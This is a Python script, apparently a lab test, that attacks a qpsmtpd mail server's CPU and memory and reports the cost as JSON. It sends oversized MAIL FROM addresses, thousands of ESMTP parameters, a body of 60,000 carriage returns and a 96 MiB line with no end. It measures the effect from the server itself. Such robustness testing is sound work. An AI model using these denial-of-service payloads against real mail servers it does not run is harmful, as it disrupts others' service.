#!/usr/bin/env python3
"""Attack an MX's CPU and memory, from the MX itself; print the cost and the answers as JSON.

    burn.py ADDRESS RECIPIENT ID

cpu: seconds that the sessions used; memory: the highest private memory of one session, MiB; answers: by attack; left:
sessions that are still running. ID is the X-Lab-Id of the message of carriage returns, which is to be delivered.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

PATIENCE = 10.0  # s for an answer
FLOOD = 96 << 20  # bytes of a line without an end
BLOCK = b"x" * (1 << 20)
HELLO = b"EHLO world.example"


def master() -> int:
    """Return the pid of the service's master."""
    show = ("systemctl", "show", "--value", "--property=MainPID", "qpsmtpd.service")
    return int(subprocess.run(show, capture_output=True, text=True, check=True).stdout)


def sessions(pid: int) -> list[int]:
    """Return the master's children."""
    return [int(word) for word in Path(f"/proc/{pid}/task/{pid}/children").read_text(encoding="ascii").split()]


def cpu(pid: int) -> float:
    """Return the CPU seconds of the master's children that have ended."""
    fields = Path(f"/proc/{pid}/stat").read_text(encoding="ascii").rpartition(")")[2].split()
    return (int(fields[13]) + int(fields[14])) / os.sysconf("SC_CLK_TCK")


def memory(pid: int) -> float:
    """Return the private memory of the largest session, MiB."""
    largest = 0
    for child in sessions(pid):
        try:
            text = Path(f"/proc/{child}/status").read_text(encoding="ascii", errors="replace")
        except OSError:
            continue
        largest = max(largest, *(int(line.split()[1]) for line in text.splitlines() if line.startswith("RssAnon")), 0)
    return largest / 1024


def reply(lines: socket.SocketIO) -> str:
    """Return the last line of the next reply, "closed" at the end and "silence" without one."""
    line = bytearray()
    try:
        while True:
            byte = lines.read(1)
            if not byte:
                return "closed"
            line += byte
            if byte == b"\n":
                if line[3:4] != b"-":
                    return line.decode("ascii", "replace").strip()
                line.clear()
    except TimeoutError:
        return "silence"
    except ConnectionError:
        return "closed"


def talk(address: str, *steps: bytes) -> str:
    """Send `steps` and QUIT; return the reply to the last step."""
    with socket.create_connection((address, 25), PATIENCE) as connection:
        lines = connection.makefile("rb", buffering=0)
        said = reply(lines)
        for step in steps:
            connection.sendall(step + b"\r\n")
            said = reply(lines)
            if said in ("silence", "closed"):
                return said
        connection.sendall(b"QUIT\r\n")
        reply(lines)
        return said


def flood(address: str, pid: int, *steps: bytes) -> float:
    """Send `steps`, then a line without an end until the server closes; return the highest memory of a session."""
    highest = 0.0
    with socket.create_connection((address, 25), PATIENCE) as connection:
        lines = connection.makefile("rb", buffering=0)
        reply(lines)
        for step in steps:
            connection.sendall(step + b"\r\n")
            reply(lines)
        try:
            for _ in range(FLOOD // len(BLOCK)):
                connection.sendall(BLOCK)
                highest = max(highest, memory(pid))
        except (ConnectionError, TimeoutError):
            pass
    return highest


def main(address: str, recipient: str, identifier: str) -> None:
    """Run all attacks and print the result."""
    pid = master()
    before = cpu(pid)
    begin = (HELLO, b"MAIL FROM:<a@world.example>", f"RCPT TO:<{recipient}>".encode(), b"DATA")
    header = f"Subject: x\r\nX-Lab-Id: {identifier}\r\n\r\n".encode()
    answers = {
        "address": talk(address, HELLO, b"MAIL FROM:<a@" + b"a" * 20_000 + b"!>"),
        "parameters": talk(address, HELLO, b"MAIL FROM:<a@b.c>" + b" A=b" * 10_000),
        "afterwards": talk(address, HELLO, b"MAIL FROM:<a@" + b"a" * 20_000 + b"!>", b"RSET"),
        "carriage returns": talk(address, *begin, header + b"\r" * 60_000 + b"x\r\n."),
    }
    peaks = {"before EHLO": flood(address, pid), "in a message": flood(address, pid, *begin)}
    give_up = time.monotonic() + PATIENCE
    while sessions(pid) and time.monotonic() < give_up:
        time.sleep(0.1)
    print(json.dumps({"answers": answers, "memory": peaks, "cpu": cpu(pid) - before, "left": len(sessions(pid))}))


if __name__ == "__main__":
    main(*sys.argv[1:])
